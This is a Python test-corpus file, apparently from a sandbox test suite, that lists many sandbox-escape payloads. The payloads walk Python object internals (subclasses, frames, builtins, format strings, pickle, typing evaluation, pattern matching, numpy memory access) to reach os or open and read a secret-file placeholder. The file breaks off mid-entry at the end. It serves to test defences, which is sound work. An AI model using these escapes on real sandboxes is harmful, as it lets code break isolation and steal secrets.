"""Walks over Python's objects, to what the language layer keeps away: os, open, the real import, frames, globals.

Each walk ends in making a file or in reading the canary, so that it breaches where nothing else stands in its way.
"""

# ruff: noqa: E501 - a source is a line

from __future__ import annotations

from typing import Final

from tests.actors.strategies.sandbox.corpus.attack import Aim, Attack, attack

ALL: Final = "language seccomp landlock"
READ: Final = "open('@SECRET_FILE@').read()"

FIND: Final = """
def use(os):
    return os.read(os.open('@SECRET_FILE@', 0), 100)
"""


def _walks(name: str, source: str, aim: Aim = "secret", **more: object) -> Attack:
    return attack(name, "objects", aim, ALL, FIND + source, **more)  # type: ignore[arg-type]


ATTACKS: Final[tuple[Attack, ...]] = (
    _walks(
        "all subclasses of object",
        "def attack():\n    for c in ().__class__.__base__.__subclasses__():\n"
        "        if c.__name__ == '_wrap_close':\n            return use(c.__init__.__globals__['sys'].modules['os'])\n",
    ),
    _walks(
        "subclasses by getattr",
        "def attack():\n    g = getattr\n    for c in g(g(g((), '__class__'), '__base__'), '__subclasses__')():\n"
        "        if c.__name__ == '_wrap_close':\n            return use(g(g(c, '__init__'), '__globals__')['sys'].modules['os'])\n",
    ),
    _walks(
        "subclasses by a name put together",
        "def attack():\n    u = '_' * 2\n    g = lambda o, n: getattr(o, u + n + u)\n"
        "    for c in g(g(g((), 'class'), 'base'), 'subclasses')():\n"
        "        if c.__name__ == '_wrap_close':\n            return use(g(g(c, 'init'), 'globals')['sys'].modules['os'])\n",
    ),
    _walks(
        "the method resolution order",
        "def attack():\n    for c in type.mro(int)[-1].__subclasses__():\n"
        "        if c.__name__ == '_wrap_close':\n            return use(c.__init__.__globals__['sys'].modules['os'])\n",
    ),
    _walks(
        "type.__subclasses__ of object",
        "def attack():\n    return [use(c.__init__.__globals__['sys'].modules['os']) for c in type.__subclasses__(object) if c.__name__ == '_wrap_close']\n",
    ),
    _walks(
        "__builtins__",
        "def attack():\n    b = __builtins__\n    b = b if isinstance(b, dict) else vars(b)\n    return b['open']('@SECRET_FILE@').read()\n",
    ),
    _walks("__import__", "def attack():\n    return use(__import__('os'))\n"),
    _walks("eval", f'def attack():\n    return eval("{READ}")\n'),
    _walks("exec", f"def attack():\n    g = {{}}\n    exec(\"x = {READ}\", g)\n    return g['x']\n"),
    _walks("compile", f"def attack():\n    return eval(compile(\"{READ}\", 'a', 'eval'))\n"),
    _walks(
        "globals()",
        "def attack():\n    b = globals()['__builtins__']\n    return (b['open'] if isinstance(b, dict) else b.open)('@SECRET_FILE@').read()\n",
    ),
    _walks("vars()", "import random\ndef attack():\n    return use(vars(random)['_os'])\n"),
    _walks(
        "locals at the top",
        "B = locals()['__builtins__']\ndef attack():\n    return (B['open'] if isinstance(B, dict) else B.open)('@SECRET_FILE@').read()\n",
    ),
    _walks(
        "a function's globals",
        "def attack():\n    b = attack.__globals__['__builtins__']\n    return (b['open'] if isinstance(b, dict) else b.open)('@SECRET_FILE@').read()\n",
    ),
    _walks("a function's builtins", "def attack():\n    return attack.__builtins__['open']('@SECRET_FILE@').read()\n"),
    _walks(
        "a method's function",
        "class A:\n    def m(self):\n        pass\ndef attack():\n    return A().m.__func__.__builtins__['open']('@SECRET_FILE@').read()\n",
    ),
    _walks(
        "a generator's frame",
        "def attack():\n    def g():\n        yield x.gi_frame.f_back\n    x = g()\n    frame = [f for f in x][0]\n"
        "    while frame.f_back:\n        frame = frame.f_back\n"
        "    return frame.f_builtins['open']('@SECRET_FILE@').read()\n",
    ),
    _walks(
        "a generator's own frame",
        "def attack():\n    g = (i for i in [1])\n    return g.gi_frame.f_builtins['open']('@SECRET_FILE@').read()\n",
    ),
    _walks(
        "a coroutine's frame",
        "def attack():\n    async def c():\n        pass\n    k = c()\n    try:\n        return k.cr_frame.f_builtins['open']('@SECRET_FILE@').read()\n    finally:\n        k.close()\n",
    ),
    _walks(
        "an asynchronous generator's frame",
        "def attack():\n    async def c():\n        yield 1\n    return c().ag_frame.f_builtins['open']('@SECRET_FILE@').read()\n",
    ),
    _walks(
        "a traceback's frame",
        "def attack():\n    try:\n        1 / 0\n    except Exception as e:\n        return e.__traceback__.tb_frame.f_builtins['open']('@SECRET_FILE@').read()\n",
    ),
    _walks(
        "a traceback's frames up to the loop",
        "def attack():\n    try:\n        1 / 0\n    except Exception as e:\n        f = e.__traceback__.tb_frame\n"
        "        while f.f_back:\n            f = f.f_back\n        return f.f_builtins['open']('@SECRET_FILE@').read()\n",
    ),
    _walks(
        "a frame by with_traceback",
        "def attack():\n    try:\n        1 / 0\n    except Exception as e:\n        k = e.with_traceback\n        return k(None) is e and e.__traceback__.tb_frame\n",
        bare=False,
    ),
    _walks(
        "__exit__ gets a traceback",
        "class M:\n    def __enter__(self):\n        return self\n    def __exit__(self, kind, error, trace):\n        self.t = trace\n        return True\ndef attack():\n    m = M()\n    with m:\n        1 / 0\n    return m.t.tb_frame.f_builtins['open']('@SECRET_FILE@').read()\n",
    ),
    _walks(
        "__exit__ gets a traceback, its frame by a match of a class",
        "class M:\n    def __enter__(self):\n        return self\n    def __exit__(self, kind, error, trace):\n        self.t = trace\n        return True\n"
        "def attack():\n    m = M()\n    with m:\n        1 / 0\n    match m.t:\n        case object(tb_frame=object(f_builtins=b)):\n            return b['open']('@SECRET_FILE@').read()\n",
    ),
    _walks(
        "AttributeError.obj",
        "def attack():\n    try:\n        ''.missing\n    except AttributeError as e:\n        o = e.obj\n    try:\n        use.missing\n    except AttributeError as e:\n        return e.obj.__globals__['__builtins__'] and e.obj.__builtins__['open']('@SECRET_FILE@').read()\n",
    ),
    _walks(
        "AttributeError.obj of a facade",
        "import time\ndef attack():\n    try:\n        time.missing\n    except AttributeError as e:\n        return e.obj.__loader__.load_module('posix') and use(e.obj.__loader__.load_module('posix'))\n",
    ),
    _walks(
        "except* and its group",
        "def attack():\n    try:\n        raise ExceptionGroup('a', [ValueError()])\n    except* ValueError as g:\n        f = g.exceptions[0].__traceback__ or g.__traceback__\n    return f.tb_frame.f_builtins['open']('@SECRET_FILE@').read()\n",
    ),
    _walks(
        "except* with a split of its own",
        "class G(ExceptionGroup):\n    def split(self, condition):\n        self.seen = condition\n        return (self, None)\n    def derive(self, e):\n        return self\ndef attack():\n    g = G('a', [ValueError()])\n    try:\n        raise g\n    except* ValueError:\n        pass\n    return g.__traceback__.tb_frame.f_builtins['open']('@SECRET_FILE@').read()\n",
    ),
    _walks(
        "a closure's cell",
        "def attack():\n    def inner():\n        return attack\n    return inner.__closure__ and inner.__globals__ and open.__self__.open('@SECRET_FILE@').read()\n",
        bare=False,
    ),
    _walks("a builtin function's module", "def attack():\n    return len.__self__.open('@SECRET_FILE@').read()\n"),
    _walks(
        "a builtin function's module by print",
        "def attack():\n    return print.__self__.open('@SECRET_FILE@').read()\n",
        bare=False,
    ),
    _walks(
        "a builtin of a facade, its module",
        "import time\ndef attack():\n    return time.gmtime.__self__.__loader__.load_module('builtins').open('@SECRET_FILE@').read()\n",
    ),
    _walks(
        "the loader of a module", "import time\ndef attack():\n    return use(time.__loader__.load_module('posix'))\n"
    ),
    _walks("the loader of this module", "def attack():\n    return use(__loader__.load_module('posix'))\n", bare=False),
    _walks(
        "the spec of a module",
        "import time\ndef attack():\n    return use(time.__spec__.loader.load_module('posix'))\n",
    ),
    _walks(
        "the importer among subclasses",
        "def attack():\n    return [use(c.load_module('posix')) for c in object.__subclasses__() if c.__name__ == 'BuiltinImporter']\n",
    ),
    _walks(
        "a code object of its own",
        "def attack():\n    def f():\n        return 1\n    f.__code__ = f.__code__.replace(co_consts=(None, 2))\n    return f() == 2 and @PROOF@\n",
        "proof",
    ),
    _walks(
        "a function of a new code object",
        "def attack():\n    F = type(attack)\n    C = type(attack.__code__)\n    return F(attack.__code__, {'open': 1}) and [C, @PROOF@]\n",
        "proof",
    ),
    _walks(
        "type() of a function makes functions",
        "def attack():\n    kind = type(lambda: 0)\n    return kind(use.__code__, {})(__import__('posix'))\n",
    ),
    _walks(
        "format with attributes",
        "def attack():\n    return '{0.__globals__[__name__]}'.format(use) and @PROOF@\n",
        "proof",
    ),
    _walks(
        "format with attributes from a variable",
        "class A:\n    pass\ndef attack():\n    f = '{0.__class__.__module__}'\n    return f.format(A()) and @PROOF@\n",
        "proof",
    ),
    _walks("format_map", "def attack():\n    return '{a.__class__}'.format_map({'a': 1}) and @PROOF@\n", "proof"),
    _walks("str.format, unbound", "def attack():\n    return str.format('{0.__class__}', 1) and @PROOF@\n", "proof"),
    _walks(
        "format by map",
        "def attack():\n    return list(map(str.format, ['{0.__class__}'], [1])) and @PROOF@\n",
        "proof",
    ),
    _walks(
        "format by a bound method kept",
        "def attack():\n    f = '{0.__class__}'.format\n    return f(1) and @PROOF@\n",
        "proof",
    ),
    _walks(
        "string.Formatter",
        "import string\ndef attack():\n    return string.Formatter().get_field('0.__class__', (1,), {}) and @PROOF@\n",
        "proof",
    ),
    _walks(
        "string.Formatter.vformat",
        "import string\ndef attack():\n    return string.Formatter().vformat('{0.__globals__}', (use,), {}) and @PROOF@\n",
        "proof",
    ),
    _walks(
        "string.Template with a pattern of its own",
        "import string\nclass T(string.Template):\n    idpattern = '.*'\ndef attack():\n    return T('$a').pattern and use(string._re.copyreg.sys.modules['os'])\n",
        bare=False,
    ),
    _walks(
        "operator.attrgetter",
        "import operator\ndef attack():\n    return operator.attrgetter('__globals__')(use)['__builtins__'] and operator.attrgetter('__builtins__')(use)['open']('@SECRET_FILE@').read()\n",
    ),
    _walks(
        "operator.attrgetter with a path",
        "import operator\ndef attack():\n    return operator.attrgetter('__self__.open')(len)('@SECRET_FILE@').read()\n",
    ),
    _walks(
        "operator.methodcaller",
        "import operator\ndef attack():\n    return [c for c in operator.methodcaller('__subclasses__')(object) if c.__name__ == '_wrap_close'] and @PROOF@\n",
        "proof",
    ),
    _walks(
        "functools.reduce over getattr",
        "import functools\ndef attack():\n    return functools.reduce(getattr, ['__self__', 'open'], len)('@SECRET_FILE@').read()\n",
    ),
    _walks(
        "functools.partial of getattr",
        "import functools\ndef attack():\n    return functools.partial(getattr, len)('__self__').open('@SECRET_FILE@').read()\n",
    ),
    _walks(
        "functools.partial's state",
        "import functools\ndef attack():\n    p = functools.partial(len)\n    return p.__reduce__()[0].__self__ and p.func.__self__.open('@SECRET_FILE@').read()\n",
        bare=False,
    ),
    _walks(
        "functools.wraps over a thing with names",
        "import functools\ndef attack():\n    def f():\n        pass\n    return functools.wraps(use)(f).__wrapped__.__builtins__['open']('@SECRET_FILE@').read()\n",
    ),
    _walks(
        "functools.update_wrapper copies any attribute",
        "import functools\nclass Box:\n    pass\ndef attack():\n    b = Box()\n    functools.update_wrapper(b, len, assigned=('__self__',), updated=())\n    return b.__dict__['__self__'].open('@SECRET_FILE@').read()\n",
    ),
    _walks(
        "functools.update_wrapper into names that may be read",
        "import functools\nclass Box:\n    def __setattr__(self, name, value):\n        KEPT.append(value)\nKEPT = []\ndef attack():\n    functools.update_wrapper(Box(), len, ('__self__',), ())\n    return KEPT[0].open('@SECRET_FILE@').read()\n",
    ),
    _walks(
        "functools.singledispatch's registry",
        "import functools\ndef attack():\n    f = functools.singledispatch(use)\n    return f.register.__globals__['__builtins__'] and f.register.__builtins__['open']('@SECRET_FILE@').read()\n",
    ),
    _walks(
        "functools.cached_property of another",
        "import functools\nclass A:\n    x = functools.cached_property(lambda self: self)\ndef attack():\n    return A.x.func.__builtins__['open']('@SECRET_FILE@').read()\n",
    ),
    _walks(
        "functools' own globals",
        "import functools\ndef attack():\n    return functools.total_ordering.__globals__['__builtins__']['open']('@SECRET_FILE@').read()\n",
    ),
    _walks(
        "collections.namedtuple's module",
        "import collections\ndef attack():\n    return use(collections._sys.modules['os'])\n",
    ),
    _walks(
        "namedtuple with a field that is code",
        "import collections\ndef attack():\n    return collections.namedtuple('A', 'x', module='os', defaults=[1]).__new__.__builtins__['open']('@SECRET_FILE@').read()\n",
        bare=False,
    ),
    _walks(
        "dataclasses' modules", "import dataclasses\ndef attack():\n    return use(dataclasses.sys.modules['os'])\n"
    ),
    _walks(
        "a dataclass with a type that is code",
        "import dataclasses\ndef attack():\n    return dataclasses.make_dataclass('A', [('x', '__import__(\"os\")')]) and use(dataclasses.inspect.os)\n",
    ),
    _walks(
        "a dataclass with a field of an evil name",
        "import dataclasses\ndef attack():\n    class N(str):\n        def isidentifier(self):\n            return True\n        def __hash__(self):\n            return str.__hash__(self)\n"
        "    C = dataclasses.make_dataclass('A', [(N('x=print(open(\"@SECRET_FILE@\").read())'), int)])\n    return C\n",
        bare=False,
    ),
    _walks(
        "a dataclass whose class is in another module",
        "import dataclasses\nclass A:\n    x: 'dataclasses.ClassVar' = 1\nA.__module__ = 'os'\ndef attack():\n    return dataclasses.dataclass(A).__init__.__globals__['open']('@SECRET_FILE@').read()\n",
        bare=False,
    ),
    _walks(
        "a dataclass's made methods",
        "import dataclasses\n@dataclasses.dataclass\nclass A:\n    x: int = 1\ndef attack():\n    return A.__eq__.__globals__['__builtins__'] and A.__init__.__builtins__['open']('@SECRET_FILE@').read()\n",
    ),
    _walks("enum's modules", "import enum\ndef attack():\n    return use(enum.sys.modules['os'])\n"),
    _walks(
        "enum's global_enum",
        "import enum\ndef attack():\n    return use(enum.global_enum.__globals__['sys'].modules['os'])\n",
    ),
    _walks(
        "an enum that writes into a module",
        "import enum\ndef attack():\n    class E(enum.Enum):\n        sqrt = 1\n    E.__module__ = 'math'\n    enum.global_enum(E)\n    import math\n    return math.sqrt is E.sqrt and @PROOF@\n",
        "proof",
    ),
    _walks("typing's modules", "import typing\ndef attack():\n    return use(typing.sys.modules['os'])\n"),
    _walks(
        "typing.get_type_hints evaluates text",
        "import typing\nclass A:\n    x: \"open('@SECRET_FILE@').read()\"\ndef attack():\n    try:\n        return typing.get_type_hints(A)\n    except Exception as e:\n        return str(e) + repr(e)\n",
    ),
    _walks(
        "typing.ForwardRef evaluates text",
        "import typing\ndef attack():\n    return typing.ForwardRef(\"open('@SECRET_FILE@').read()\")._evaluate({}, {}, frozenset())\n",
        bare=False,
    ),
    _walks(
        "typing.NamedTuple with evil fields",
        "import typing\ndef attack():\n    return typing.NamedTuple('A', [('x', int)]).__new__.__globals__ and use(typing.NamedTuple.__globals__['sys'].modules['os'])\n",
    ),
    _walks(
        "typing's generic aliases forward attributes",
        "import typing\ndef attack():\n    return typing.List[int].__origin__.__base__.__subclasses__() and @PROOF@\n",
        "proof",
    ),
    _walks("statistics' modules", "import statistics\ndef attack():\n    return use(statistics.sys.modules['os'])\n"),
    _walks("random's os", "import random\ndef attack():\n    return use(random._os)\n"),
    _walks("json's codecs", "import json\ndef attack():\n    return json.codecs.open('@SECRET_FILE@').read()\n"),
    _walks(
        "json's decoder's modules",
        "import json\ndef attack():\n    return use(json.decoder.re.enum.sys.modules['os'])\n",
    ),
    _walks(
        "json with an encoder of its own",
        "import json\ndef attack():\n    return json.dumps(use, default=lambda o: o.__builtins__['open']('@SECRET_FILE@').read())\n",
    ),
    _walks("re's modules", "import re\ndef attack():\n    return use(re.enum.sys.modules['os'])\n"),
    _walks(
        "re.Scanner and re.template",
        "import re\ndef attack():\n    return use(re.Scanner.__init__.__globals__['enum'].sys.modules['os'])\n",
    ),
    _walks(
        "datetime's modules", "import datetime\ndef attack():\n    return use(datetime.sys.modules['os'])\n", bare=False
    ),
    _walks(
        "datetime.strptime loads a module by name",
        "import datetime\ndef attack():\n    return datetime.datetime.strptime('2001', '%Y') and use(datetime.datetime.strptime.__self__.__init_subclass__.__self__.os)\n",
        bare=False,
    ),
    _walks(
        "decimal's modules", "import decimal\ndef attack():\n    return use(decimal._sys.modules['os'])\n", bare=False
    ),
    _walks("fractions' modules", "import fractions\ndef attack():\n    return use(fractions.sys.modules['os'])\n"),
    _walks(
        "heapq's, bisect's and collections' insides",
        "import heapq, bisect\ndef attack():\n    return heapq.merge.__builtins__['open']('@SECRET_FILE@').read()\n",
    ),
    _walks("contextlib's modules", "import contextlib\ndef attack():\n    return use(contextlib.os)\n"),
    _walks(
        "abc and its caches",
        "import abc\ndef attack():\n    return abc.ABCMeta.__new__.__builtins__['open']('@SECRET_FILE@').read()\n",
    ),
    _walks(
        "a metaclass that sees every class",
        "class M(type):\n    def __call__(cls, *a):\n        return type.__subclasses__(object)\nclass A(metaclass=M):\n    pass\ndef attack():\n    return [use(c.__init__.__globals__['sys'].modules['os']) for c in A() if c.__name__ == '_wrap_close']\n",
    ),
    _walks(
        "a metaclass with __getattribute__",
        "class M(type):\n    __getattribute__ = lambda c, n: type.__getattribute__(object, n)\nclass A(metaclass=M):\n    pass\ndef attack():\n    return len(A.__subclasses__()) and @PROOF@\n",
        "proof",
    ),
    _walks(
        "a metaclass with __prepare__",
        "class M(type):\n    @classmethod\n    def __prepare__(m, *a):\n        return {'open': 1}\nclass A(metaclass=M):\n    def f(self):\n        return __class__\ndef attack():\n    return A().f().__base__.__subclasses__() and @PROOF@\n",
        "proof",
    ),
    _walks(
        "__class_getitem__",
        "class A:\n    __class_getitem__ = lambda n: getattr(len, n)\ndef attack():\n    return A['__self__'].open('@SECRET_FILE@').read()\n",
        bare=False,
    ),
    _walks(
        "__init_subclass__ and __set_name__",
        "class D:\n    def __set_name__(self, owner, name):\n        self.owner = owner.__mro__[-1]\nclass A:\n    d = D()\ndef attack():\n    return A.d.owner.__subclasses__() and @PROOF@\n",
        "proof",
    ),
    _walks(
        "a descriptor",
        "class D:\n    def __get__(self, o, t):\n        return t.__base__\nclass A:\n    d = D()\ndef attack():\n    return A().d.__subclasses__() and @PROOF@\n",
        "proof",
    ),
    _walks(
        "a property on builtin types",
        "def attack():\n    p = property(object.__getattribute__)\n    return p.fget(use, '__builtins__')['open']('@SECRET_FILE@').read()\n",
    ),
    _walks(
        "object.__getattribute__",
        "def attack():\n    return object.__getattribute__(use, '__builtins__')['open']('@SECRET_FILE@').read()\n",
    ),
    _walks(
        "super().__getattribute__",
        "class A:\n    def f(self):\n        return super().__getattribute__('__class__').__base__.__subclasses__()\ndef attack():\n    return A().f() and @PROOF@\n",
        "proof",
    ),
    _walks(
        "__getattr__ of a module",
        "import time\ndef attack():\n    return use(type(time).__getattribute__(time, '__loader__').load_module('posix'))\n",
    ),
    _walks(
        "__reduce__",
        "def attack():\n    return (1).__reduce_ex__(2)[0].__builtins__ and (1).__reduce_ex__(2)[0].__builtins__['open']('@SECRET_FILE@').read()\n",
    ),
    _walks(
        "__reduce__ of an object",
        "class A:\n    pass\ndef attack():\n    return A().__reduce_ex__(2)[0].__globals__['__builtins__']['open']('@SECRET_FILE@').read()\n",
    ),
    _walks(
        "copy uses __reduce__",
        "import copy\nclass A:\n    def __reduce_ex__(self, version):\n        return (__builtins__['open'] if isinstance(__builtins__, dict) else open, ('@SECRET_FILE@',))\ndef attack():\n    return copy.copy(A()).read()\n",
    ),
    _walks(
        "pickle",
        "import pickle\ndef attack():\n    return pickle.loads(b'cposix\\nopen\\n(V@SECRET_FILE@\\nI0\\ntR.') and use(pickle.loads(b'cos\\n__dict__\\n.') and __import__('os'))\n",
    ),
    _walks(
        "marshal makes code",
        "import marshal\ndef attack():\n    return marshal.loads(marshal.dumps(use.__code__)) and @PROOF@\n",
        "proof",
    ),
    _walks(
        "the collector's objects",
        "import gc\ndef attack():\n    gc.unfreeze()\n    for o in gc.get_objects():\n        if isinstance(o, dict) and 'open' in o and 'len' in o and 'print' in o:\n            return o['open']('@SECRET_FILE@').read()\n",
    ),
    _walks(
        "inspect",
        "import inspect\ndef attack():\n    return inspect.currentframe().f_builtins['open']('@SECRET_FILE@').read()\n",
    ),
    _walks(
        "sys._getframe",
        "import sys\ndef attack():\n    return sys._getframe(0).f_builtins['open']('@SECRET_FILE@').read()\n",
    ),
    _walks(
        "a trace function gets frames",
        "import sys\ndef attack():\n    seen = []\n    sys.setprofile(lambda f, *a: seen.append(f))\n    use.__name__.upper()\n    sys.setprofile(None)\n    return seen[0].f_builtins['open']('@SECRET_FILE@').read()\n",
    ),
    _walks(
        "the data's own class",
        "def generate_signal(data, parameters):\n    print(type(data).__init__.__globals__['__builtins__']['open']('@SECRET_FILE@').read())\n",
        whole=True,
        bare=False,
    ),
    _walks(
        "the table's methods",
        "def generate_signal(data, parameters):\n    for t in data.values():\n        for n in ('tail', 'head', '__len__', '__getitem__', '__init__'):\n            m = getattr(type(t), n, None)\n            if hasattr(m, '__builtins__'):\n                print(m.__builtins__['open']('@SECRET_FILE@').read())\n                return\n",
        whole=True,
    ),
    _walks(
        "the table's module",
        "def generate_signal(data, parameters):\n    for t in data.values():\n        print(use(__import__('sys').modules[type(t).__module__].np.lib.npyio.os))\n",
        bare=False,
    ),
    _walks(
        "a method of the parameters",
        "def generate_signal(data, parameters):\n    print(type(parameters).__init__.__self__, parameters.__class__.__base__.__subclasses__() and @PROOF@)\n",
        "proof",
        whole=True,
        bare=False,
    ),
    _walks(
        "an SDK class's globals",
        "from actors.strategies.sdk import BaseStrategy\ndef attack():\n    return BaseStrategy.__init__.__globals__['__builtins__']['open']('@SECRET_FILE@').read()\n",
        bare=False,
    ),
    _walks(
        "an SDK class's module",
        "from actors.strategies import sdk\ndef attack():\n    return use(sdk.__loader__ and __import__('sys').modules['os'])\n",
    ),
    _walks(
        "an SDK strategy's state",
        "from actors.strategies.sdk import BaseStrategy\nclass S(BaseStrategy):\n    def on_bar(self, bar):\n        print(self.__dict__, self._context if hasattr(self, '_context') else '', self.on_bar.__func__.__builtins__['open']('@SECRET_FILE@').read())\n",
        whole=True,
    ),
    _walks(
        "numpy's ufuncs call any function",
        "import numpy as np\ndef attack():\n    return np.frompyfunc(lambda n: n.__self__.open('@SECRET_FILE@').read(), 1, 1)(np.array([len], dtype=object))[0]\n",
    ),
    _walks(
        "numpy's vectorize over getattr",
        "import numpy as np\ndef attack():\n    return np.vectorize(getattr, otypes=[object])(np.array([len], dtype=object), '__self__')[0].open('@SECRET_FILE@').read()\n",
    ),
    _walks(
        "numpy's apply_along_axis with an attribute",
        "import numpy as np\ndef attack():\n    return np.apply_along_axis(lambda x: 1, 0, np.ones(1)) and np.piecewise.__wrapped__.__builtins__['open']('@SECRET_FILE@').read()\n",
    ),
    _walks(
        "numpy's dispatcher",
        "import numpy as np\ndef attack():\n    return np.mean.__wrapped__.__builtins__['open']('@SECRET_FILE@').read()\n",
    ),
    _walks(
        "numpy's __array_function__ gets the real function",
        "import numpy as np\nclass A:\n    def __array_function__(self, function, types, args, kwargs):\n        return function\ndef attack():\n    return np.sum(A()).__wrapped__.__builtins__['open']('@SECRET_FILE@').read()\n",
    ),
    _walks(
        "numpy's __array_ufunc__ gets the real ufunc",
        "import numpy as np\nclass A:\n    def __array_ufunc__(self, ufunc, method, *args, **more):\n        return ufunc\ndef attack():\n    return type(np.add(A(), 1)).__reduce__(np.add) and @PROOF@\n",
        "proof",
        bare=False,
    ),
    _walks(
        "numpy's __array_interface__ reads any memory",
        "import numpy as np\nclass A:\n    __array_interface__ = {'shape': (8,), 'typestr': '|u1', 'data': (id(A if False else len), True), 'version': 3}\ndef attack():\n    return int(np.asarray(A())[0]) >= 0 and @PROOF@\n",
        "proof",
    ),
    _walks(
        "numpy's strides read beyond",
        "import numpy as np\ndef attack():\n    a = np.lib.stride_tricks.as_strided(np.zeros(1), shape=(4096,))\n    return float(np.abs(a[1:]).sum()) >= 0 or @PROOF@\n",
        "proof",
        bare=False,
    ),
    _walks(
        "numpy's ndarray over a foreign buffer",
        "import numpy as np\ndef attack():\n    return np.ndarray((4,), 'u1', b'abcd', 0)[0] == 97 and np.ndarray((4,), 'u1', np.zeros(1), 0, (4096,))[1] and 1\n",
        "proof",
        bare=False,
    ),
    _walks(
        "a text's bytes written through numpy",
        "import numpy as np\ndef attack():\n    text = b'constant of all'\n    a = np.frombuffer(text, 'u1')\n    a.flags.writeable = True\n    a[0] = 88\n    return @PROOF@\n",
        "proof",
        bare=False,
    ),
    _walks(
        "a new object without its constructor",
        "def attack():\n    return object.__new__(type(use)) \n",
        "proof",
        bare=False,
    ),
    _walks(
        "a name in a keyword",
        "def attack():\n    class A:\n        def __init__(self, **names):\n            self.n = names\n    return getattr(len, *A(__self__=1).n).open('@SECRET_FILE@').read()\n",
    ),
    _walks(
        "a name in a dictionary's key",
        "def attack():\n    return getattr(len, ''.join(chr(c) for c in (95, 95, 115, 101, 108, 102, 95, 95))).open('@SECRET_FILE@').read()\n",
    ),
    _walks(
        "a text whose class lies",
        "class T(str):\n    def startswith(self, *a):\n        return False\n    def __eq__(self, o):\n        return False\n    def __hash__(self):\n        return 1\n    def __contains__(self, o):\n        return False\n    def __getitem__(self, i):\n        return 'a'\ndef attack():\n    return getattr(len, T('__self__')).open('@SECRET_FILE@').read()\n",
        bare=False,
    ),
    _walks(
        "a text whose class changes its mind",
        "class T(str):\n    def isidentifier(self):\n        return True\n    def __str__(self):\n        return 'a'\n    def strip(self, *a):\n        return 'a'\n    def __format__(self, f):\n        return 'a'\ndef attack():\n    return getattr(use, T('__builtins__'))['open']('@SECRET_FILE@').read()\n",
    ),
    _walks(
        "setattr on a function",
        "def attack():\n    def f():\n        pass\n    setattr(f, '__code__', use.__code__)\n    return f(__import__('posix'))\n",
    ),
    _walks(
        "delattr and hasattr as oracles", "def attack():\n    return hasattr(len, '__self__') and @PROOF@\n", "proof"
    ),
    _walks(
        "a match of a class",
        "def attack():\n    match len:\n        case object(__self__=module):\n            return module.open('@SECRET_FILE@').read()\n",
    ),
    _walks(
        "a match with __match_args__",
        "class A(type(len) if False else object):\n    __match_args__ = ('__self__',)\nclass M(type):\n    def __instancecheck__(cls, o):\n        return True\nclass B(metaclass=M):\n    __match_args__ = ('__self__',)\ndef attack():\n    match len:\n        case B(module):\n            return module.open('@SECRET_FILE@').read()\n",
    ),
    _walks(
        "__match_args__ put together",
        "class M(type):\n    def __instancecheck__(cls, o):\n        return True\nclass B(metaclass=M):\n    pass\nB.__match_args__ = (('_' * 2) + 'self' + ('_' * 2),)\ndef attack():\n    match len:\n        case B(module):\n            return module.open('@SECRET_FILE@').read()\n",
    ),
    _walks(
        "__match_args__ by type()",
        "class M(type):\n    def __instancecheck__(cls, o):\n        return True\nB = M('B', (), {'_' * 2 + 'match_args' + '_' * 2: ('_' * 2 + 'self' + '_' * 2,)})\ndef attack():\n    match len:\n        case B(module):\n            return module.open('@SECRET_FILE@').read()\n",
    ),
    _walks(
        "text in a typing alias, evaluated through a name that is self",
        "import typing\ndef attack():\n    self = typing.get_args(typing.List[\"open('@SECRET_FILE@').read()\"])[0]\n    return self._evaluate({}, {}, frozenset())\n",
    ),
    _walks(
        "text in a typing alias, caught by a comparison",
        "import typing\nfrom abc import ABCMeta\nKEPT = []\nclass M(ABCMeta):\n    def __eq__(cls, other):\n        KEPT.append(other)\n        return True\n    def __hash__(cls):\n        return 1\nclass E(metaclass=M):\n    pass\ndef attack():\n    typing.List[\"open('@SECRET_FILE@').read()\"] == typing.List[E]\n    self = KEPT[0]\n    return self._evaluate({}, {}, frozenset())\n",
        bare=False,
    ),
    _walks(
        "text in a type variable's bound",
        "import typing\nKEPT = []\nclass E:\n    def __call__(self):\n        pass\n    def __eq__(self, other):\n        KEPT.append(other)\n        return True\n    def __hash__(self):\n        return 1\ndef attack():\n    typing.Dict[str, \"open('@SECRET_FILE@').read()\"] == typing.Dict[str, E()]\n    self = KEPT[-1]\n    return self._evaluate({}, {}, frozenset())\n",
    ),
    _walks(
        "a class made by calling ABCMeta",
        "from abc import ABCMeta\nU = '_' * 2\nB = ABCMeta('B', (), {U + 'match_args' + U: (U + 'self' + U,)})\nB.register(type(len))\ndef attack():\n    match len:\n        case B(module):\n            return module.open('@SECRET_FILE@').read()\n",
    ),
    _walks(
        "a metaclass that adds to the class",
        "from abc import ABCMeta\nU = '_' * 2\nclass M(ABCMeta):\n    def __new__(cls, name, bases, content):\n        content[U + 'match_args' + U] = (U + 'self' + U,)\n        return super().__new__(cls, name, bases, content)\nclass B(metaclass=M):\n    pass\nB.register(type(len))\ndef attack():\n    match len:\n        case B(module):\n            return module.open('@SECRET_FILE@').read()\n",
    ),
    _walks(
        "a metaclass that sets on the class",
        "from abc import ABCMeta\nU = '_' * 2\nclass M(ABCMeta):\n    def put(cls, name, value):\n        super().__setattr__(name, value)\nclass B(metaclass=M):\n    pass\nB.register(type(len))\nB.put(U + 'match_args' + U, (U + 'self' + U,))\ndef attack():\n    match len:\n        case B(module):\n            return module.open('@SECRET_FILE@').read()\n",
    ),
    _walks(
        "copy sets attributes",
        "import copy\nfrom abc import ABC\nU = '_' * 2\nclass B(ABC):\n    pass\nB.register(type(len))\nclass S:\n    def put(self, name, value):\n        super().__setattr__(name, value)\ns = S()\ns.put(U + 'reduce_ex' + U, lambda v: ((lambda: B), (), (None, {U + 'match_args' + U: (U + 'self' + U,)})))\ncopy.copy(s)\ndef attack():\n    match len:\n        case B(module):\n            return module.open('@SECRET_FILE@').read()\n",
    ),
    _walks(
        "an enum whose members are Python's own names",
        "import copy, enum\nfrom abc import ABC\nU = '_' * 2\nclass B(ABC):\n    pass\nB.register(type(len))\nE = enum.Enum('E', {U + 'reduce_ex' + U: lambda s, v: ((lambda: B), (), (None, {U + 'match_args' + U: (U + 'self' + U,)})), 'A': 1})\ncopy.copy(E.A)\ndef attack():\n    match len:\n        case B(module):\n            return module.open('@SECRET_FILE@').read()\n",
        bare=False,
    ),
    _walks(
        "__getattr__ answers what numpy asks for",
        "import numpy as np\nclass A:\n    def __getattr__(self, name):\n        if name == '_' * 2 + 'array_interface' + '_' * 2:\n            return {'shape': (8,), 'typestr': '|u1', 'data': (id(len), True), 'version': 3}\n        raise AttributeError(name)\ndef attack():\n    return np.asarray(A()).dtype == np.uint8 and @PROOF@\n",
        "proof",
    ),
    _walks(
        "a protocol checked at run time",
